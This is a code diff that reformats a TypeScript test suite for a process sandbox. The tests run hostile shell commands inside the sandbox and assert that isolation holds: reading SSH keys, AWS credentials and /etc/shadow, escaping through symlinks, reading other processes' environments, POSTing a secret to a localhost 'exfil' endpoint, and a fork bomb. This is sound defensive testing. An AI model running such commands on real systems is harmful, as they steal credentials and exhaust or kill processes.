@@ -32,7 +32,14 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
-const spec = (extra: object = {}) => ({ filesystem: "workspace" as const, workspace: ws, network: "none" as const, home, protect: [data], ...extra });
+const spec = (extra: object = {}) => ({
+  filesystem: "workspace" as const,
+  workspace: ws,
+  network: "none" as const,
+  home,
+  protect: [data],
+  ...extra,
+});
 
 function listen(): Promise<{ server: Server; port: number; hits: string[] }> {
   const hits: string[] = [];
@@ -40,13 +47,18 @@ function listen(): Promise<{ server: Server; port: number; hits: string[] }> {
     hits.push(`${req.method} ${req.url}`);
     res.end("reached\n");
   });
-  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve({ server, port: (server.address() as { port: number }).port, hits })));
+  return new Promise((resolve) =>
+    server.listen(0, "127.0.0.1", () => resolve({ server, port: (server.address() as { port: number }).port, hits })),
+  );
 }
 
 describe.skipIf(!probe.available)("a sandboxed process", () => {
   it("writes in the workspace, not elsewhere, and has a private /tmp", async () => {
     const marker = `pal-marker-${process.pid}`;
-    const r = await runIn({ spec: spec() }, `echo made > new.txt; echo changed > ${outside}; echo x > /etc/${marker}; echo x > ${home}/.bashrc; echo tmp > /tmp/${marker} && cat /tmp/${marker}`);
+    const r = await runIn(
+      { spec: spec() },
+      `echo made > new.txt; echo changed > ${outside}; echo x > /etc/${marker}; echo x > ${home}/.bashrc; echo tmp > /tmp/${marker} && cat /tmp/${marker}`,
+    );
     expect(readFileSync(path.join(ws, "new.txt"), "utf8")).toBe("made\n");
     expect(readFileSync(outside, "utf8")).toBe("original\n");
     expect(readFileSync(path.join(home, ".bashrc"), "utf8")).toBe("# bashrc\n");
@@ -57,7 +69,10 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
   });
 
   it("never sees the home (its credentials or anything else), the protected data directory or password hashes", async () => {
-    const r = await runIn({ spec: spec() }, `cat ${home}/.ssh/id_ed25519 ${home}/.aws/credentials ${home}/.npmrc ${data}/palisade.db /etc/shadow; ls -a ${home}/.ssh ${data}; cat ${home}/.bashrc; echo "home: $(ls -A ${home} | wc -l) entries"`);
+    const r = await runIn(
+      { spec: spec() },
+      `cat ${home}/.ssh/id_ed25519 ${home}/.aws/credentials ${home}/.npmrc ${data}/palisade.db /etc/shadow; ls -a ${home}/.ssh ${data}; cat ${home}/.bashrc; echo "home: $(ls -A ${home} | wc -l) entries"`,
+    );
     expect(r.out).not.toMatch(/SECRET|root:/);
     expect(r.out).not.toContain("# bashrc");
     // The home inside is a private, empty directory.
@@ -68,17 +83,25 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     const sockets = visibleTempDir("pal-sock-");
     const listed = visibleTempDir("pal-sock-listed-");
     const hits: string[] = [];
-    const servers = [path.join(sockets, "db.sock"), path.join(home, "agent.sock"), path.join(listed, "ok.sock")].map((p) => {
-      const server = createNetServer((c) => {
-        hits.push(p);
-        c.end("hello\n");
-      });
-      server.listen(p);
-      return server;
-    });
+    const servers = [path.join(sockets, "db.sock"), path.join(home, "agent.sock"), path.join(listed, "ok.sock")].map(
+      (p) => {
+        const server = createNetServer((c) => {
+          hits.push(p);
+          c.end("hello\n");
+        });
+        server.listen(p);
+        return server;
+      },
+    );
     try {
-      const py = (p: string): string => `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${p}'); print('connected ${path.basename(p)}', s.recv(10))" 2>&1 | tail -1`;
-      const r = await runIn({ spec: spec({ sockets: [listed] }) }, [py(path.join(sockets, "db.sock")), py(path.join(home, "agent.sock")), py(path.join(listed, "ok.sock"))].join("; "));
+      const py = (p: string): string =>
+        `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${p}'); print('connected ${path.basename(p)}', s.recv(10))" 2>&1 | tail -1`;
+      const r = await runIn(
+        { spec: spec({ sockets: [listed] }) },
+        [py(path.join(sockets, "db.sock")), py(path.join(home, "agent.sock")), py(path.join(listed, "ok.sock"))].join(
+          "; ",
+        ),
+      );
       expect(r.out).toContain("connected ok.sock");
       expect(r.out).not.toContain("connected db.sock");
       expect(r.out).not.toContain("connected agent.sock");
@@ -91,15 +114,26 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
   });
 
   it("names only root, its own user and nobody in /etc/passwd, and only localhost in /etc/hosts", async () => {
-    const r = await runIn({ spec: spec() }, "cat /etc/passwd /etc/group /etc/hosts; getent passwd $(id -u) | cut -d: -f6");
-    const users = r.out.split("\n").filter((l) => /^[^:\s]+:x:\d+:\d+:/.test(l)).map((l) => l.split(":")[0]);
-    expect(new Set(users)).toEqual(new Set(["root", "nobody", ...(process.getuid?.() === 0 ? [] : [os.userInfo().username])]));
+    const r = await runIn(
+      { spec: spec() },
+      "cat /etc/passwd /etc/group /etc/hosts; getent passwd $(id -u) | cut -d: -f6",
+    );
+    const users = r.out
+      .split("\n")
+      .filter((l) => /^[^:\s]+:x:\d+:\d+:/.test(l))
+      .map((l) => l.split(":")[0]);
+    expect(new Set(users)).toEqual(
+      new Set(["root", "nobody", ...(process.getuid?.() === 0 ? [] : [os.userInfo().username])]),
+    );
     expect(r.out).toContain("127.0.0.1\tlocalhost");
     expect(r.out.trim().split("\n").at(-1)).toBe(home);
   });
 
   it("cannot reach outside the workspace through symbolic or hard links", async () => {
-    const r = await runIn({ spec: spec() }, `ln -s ../../../.. up; cat up${data}/palisade.db; echo changed > up${outside}; ln ${outside} hard; cat up/etc/shadow; echo done`);
+    const r = await runIn(
+      { spec: spec() },
+      `ln -s ../../../.. up; cat up${data}/palisade.db; echo changed > up${outside}; ln ${outside} hard; cat up/etc/shadow; echo done`,
+    );
     expect(r.out).toContain("done");
     expect(r.out).not.toContain("SECRET");
     expect(readFileSync(outside, "utf8")).toBe("original\n");
@@ -111,7 +145,10 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     const decoy = spawn("/bin/sleep", ["30"], { env: { DECOY_SECRET: "SECRET-ENV" }, stdio: "ignore" });
     try {
       const pid = decoy.pid ?? 0;
-      const r = await runIn({ spec: spec() }, `ps auxeww; cat /proc/${pid}/environ; kill -9 ${pid} ${process.pid}; ls /proc | grep -c '^[0-9]'`);
+      const r = await runIn(
+        { spec: spec() },
+        `ps auxeww; cat /proc/${pid}/environ; kill -9 ${pid} ${process.pid}; ls /proc | grep -c '^[0-9]'`,
+      );
       expect(r.out).not.toContain("SECRET-ENV");
       expect(decoy.exitCode).toBeNull();
       expect(() => process.kill(pid, 0)).not.toThrow();
@@ -123,8 +160,16 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
   it("has no network with network: none; a listener on the host is never reached", async () => {
     const l = await listen();
     try {
-      const r = await runIn({ spec: spec() }, `cut -d: -f1 /proc/net/dev | tail -n +3; curl -sS -m 3 http://127.0.0.1:${l.port}/; getent hosts example.com || echo no-dns`);
-      expect(r.out.split("\n").filter((s) => /^\s*\w+$/.test(s)).map((s) => s.trim())).toEqual(["lo"]);
+      const r = await runIn(
+        { spec: spec() },
+        `cut -d: -f1 /proc/net/dev | tail -n +3; curl -sS -m 3 http://127.0.0.1:${l.port}/; getent hosts example.com || echo no-dns`,
+      );
+      expect(
+        r.out
+          .split("\n")
+          .filter((s) => /^\s*\w+$/.test(s))
+          .map((s) => s.trim()),
+      ).toEqual(["lo"]);
       expect(r.out).toContain("no-dns");
       expect(l.hits).toEqual([]);
     } finally {
@@ -140,7 +185,11 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
       const r = await runIn(
         {
           spec: spec({ network: "allowlist" }),
-          egress: { allowHost: (h, p) => h === "localhost" && p === allowed.port, allowAddresses: ["127.0.0.1"], onConnection: (e) => events.push(e) },
+          egress: {
+            allowHost: (h, p) => h === "localhost" && p === allowed.port,
+            allowAddresses: ["127.0.0.1"],
+            onConnection: (e) => events.push(e),
+          },
         },
         // NO_PROXY (localhost stays inside the sandbox) is cleared so that "localhost" goes to the proxy.
         `export NO_PROXY= no_proxy=; curl -sS -m 5 http://localhost:${allowed.port}/ok; curl -sS -m 5 -X POST -d secret http://localhost:${other.port}/exfil; ` +
@@ -182,9 +231,14 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     const enforced = (sandbox: { applied: Array<{ limit: string; by: string }> }): void => {
       // Never start a fork bomb that nothing limits. (The script after the bomb uses only shell
       // builtins: with every pid taken, nothing inside can fork, by design.)
-      if (sandbox.applied.find((a) => a.limit === "pids")?.by === "none") throw new Error("the pids limit is not enforced here");
+      if (sandbox.applied.find((a) => a.limit === "pids")?.by === "none")
+        throw new Error("the pids limit is not enforced here");
     };
-    const r = await runIn({ spec: spec(), resources: { pids: 32 }, beforeRun: enforced }, `(bomb() { bomb | bomb & }; bomb); echo still-here`, 30_000);
+    const r = await runIn(
+      { spec: spec(), resources: { pids: 32 }, beforeRun: enforced },
+      `(bomb() { bomb | bomb & }; bomb); echo still-here`,
+      30_000,
+    );
     expect(r.out).toContain("still-here");
     expect(Date.now() - started).toBeLessThan(30_000);
     expect(execFileSync("/bin/echo", ["host ok"]).toString()).toBe("host ok\n");
@@ -196,7 +250,11 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
       spec: spec(),
       runDir,
       inboundPort: 50999,
-      command: [process.execPath, "-e", "require('http').createServer((q,s)=>s.end('inside '+q.url)).listen(50999,'127.0.0.1')"],
+      command: [
+        process.execPath,
+        "-e",
+        "require('http').createServer((q,s)=>s.end('inside '+q.url)).listen(50999,'127.0.0.1')",
+      ],
       env: { PATH: "/usr/bin:/bin" },
     });
     const child = spawn(sandbox.argv[0] ?? "", sandbox.argv.slice(1), { env: sandbox.env, stdio: "ignore" });
@@ -231,8 +289,16 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     writeFileSync(path.join(codeDir, "..", `pal-tmp-secret-${process.pid}`), "SECRET-TMP\n");
     try {
       const runDir = mkdtempSync("/tmp/pal-sbx-");
-      const sandbox = await prepareSandbox({ spec: spec(), runDir, command: ["/bin/sh", script], env: { PATH: "/usr/bin:/bin" } });
-      const child = spawn(sandbox.argv[0] ?? "", sandbox.argv.slice(1), { env: sandbox.env, stdio: ["ignore", "pipe", "pipe"] });
+      const sandbox = await prepareSandbox({
+        spec: spec(),
+        runDir,
+        command: ["/bin/sh", script],
+        env: { PATH: "/usr/bin:/bin" },
+      });
+      const child = spawn(sandbox.argv[0] ?? "", sandbox.argv.slice(1), {
+        env: sandbox.env,
+        stdio: ["ignore", "pipe", "pipe"],
+      });
       let out = "";
       child.stdout.on("data", (c: Buffer) => (out += c.toString()));
       child.stderr.on("data", (c: Buffer) => (out += c.toString()));
@@ -253,7 +319,12 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     writeFileSync(path.join(capDir, "tool.sh"), "echo ran-in-cwd; pwd; echo x > changed 2>&1 || echo cannot-write\n");
     try {
       const runDir = mkdtempSync("/tmp/pal-sbx-");
-      const sandbox = await prepareSandbox({ spec: { filesystem: "none", network: "none", home, cwd: capDir }, runDir, command: ["/bin/sh", "tool.sh"], env: { PATH: "/usr/bin:/bin" } });
+      const sandbox = await prepareSandbox({
+        spec: { filesystem: "none", network: "none", home, cwd: capDir },
+        runDir,
+        command: ["/bin/sh", "tool.sh"],
+        env: { PATH: "/usr/bin:/bin" },
+      });
       const out = execFileSync(sandbox.argv[0] ?? "", sandbox.argv.slice(1), { env: sandbox.env }).toString();
       await sandbox.close();
       expect(out).toContain("ran-in-cwd");
@@ -269,7 +340,12 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     writeFileSync(path.join(home, "package.json"), "{}\n");
     writeFileSync(path.join(home, "tool.sh"), "echo ran-from-home; cat $HOME/.bashrc; ls -A $HOME\n");
     try {
-      const sandbox = await prepareSandbox({ spec: spec(), runDir: mkdtempSync("/tmp/pal-sbx-"), command: ["/bin/sh", path.join(home, "tool.sh")], env: { PATH: "/usr/bin:/bin" } });
+      const sandbox = await prepareSandbox({
+        spec: spec(),
+        runDir: mkdtempSync("/tmp/pal-sbx-"),
+        command: ["/bin/sh", path.join(home, "tool.sh")],
+        env: { PATH: "/usr/bin:/bin" },
+      });
       const out = execFileSync(sandbox.argv[0] ?? "", sandbox.argv.slice(1), { env: sandbox.env }).toString();
       await sandbox.close();
       // Only the program file itself is bound: it runs, and the rest of the home stays out.
@@ -287,10 +363,18 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
     const capDir = path.join(tools, "cap");
     mkdirSync(capDir);
     writeFileSync(path.join(capDir, "lib.sh"), "greeting=from-lib\n");
-    writeFileSync(path.join(capDir, "main.sh"), 'cd "$(dirname "$0")"; . ./lib.sh; echo "$greeting"; echo x > lib.sh 2>/dev/null || echo cannot-write; ls ..\n');
+    writeFileSync(
+      path.join(capDir, "main.sh"),
+      'cd "$(dirname "$0")"; . ./lib.sh; echo "$greeting"; echo x > lib.sh 2>/dev/null || echo cannot-write; ls ..\n',
+    );
     writeFileSync(path.join(tools, "other-secret.txt"), "SECRET-OTHER\n");
     try {
-      const sandbox = await prepareSandbox({ spec: { filesystem: "none", network: "none", home }, runDir: mkdtempSync("/tmp/pal-sbx-"), command: ["/bin/sh", path.join(capDir, "main.sh")], env: { PATH: "/usr/bin:/bin" } });
+      const sandbox = await prepareSandbox({
+        spec: { filesystem: "none", network: "none", home },
+        runDir: mkdtempSync("/tmp/pal-sbx-"),
+        command: ["/bin/sh", path.join(capDir, "main.sh")],
+        env: { PATH: "/usr/bin:/bin" },
+      });
       const out = execFileSync(sandbox.argv[0] ?? "", sandbox.argv.slice(1), { env: sandbox.env }).toString();
       await sandbox.close();
       expect(out).toContain("from-lib");
@@ -304,11 +388,20 @@ describe.skipIf(!probe.available)("a sandboxed process", () => {
 
   it("dies with its parent", async () => {
     const tag = `${Date.now() % 1000}.${process.pid}`;
-    const sandbox = await prepareSandbox({ spec: spec(), runDir: mkdtempSync("/tmp/pal-die-"), command: ["/bin/sleep", tag], env: { PATH: "/usr/bin:/bin" } });
+    const sandbox = await prepareSandbox({
+      spec: spec(),
+      runDir: mkdtempSync("/tmp/pal-die-"),
+      command: ["/bin/sleep", tag],
+      env: { PATH: "/usr/bin:/bin" },
+    });
     const child = spawn(sandbox.argv[0] ?? "", sandbox.argv.slice(1), { env: sandbox.env, stdio: "ignore" });
     const alive = (): boolean => {
       try {
-        return execFileSync("pgrep", ["-f", `^/bin/sleep ${tag}$`]).toString().trim() !== "";
+        return (
+          execFileSync("pgrep", ["-f", `^/bin/sleep ${tag}$`])
+            .toString()
+            .trim() !== ""
+        );
       } catch {
         return false;
       }
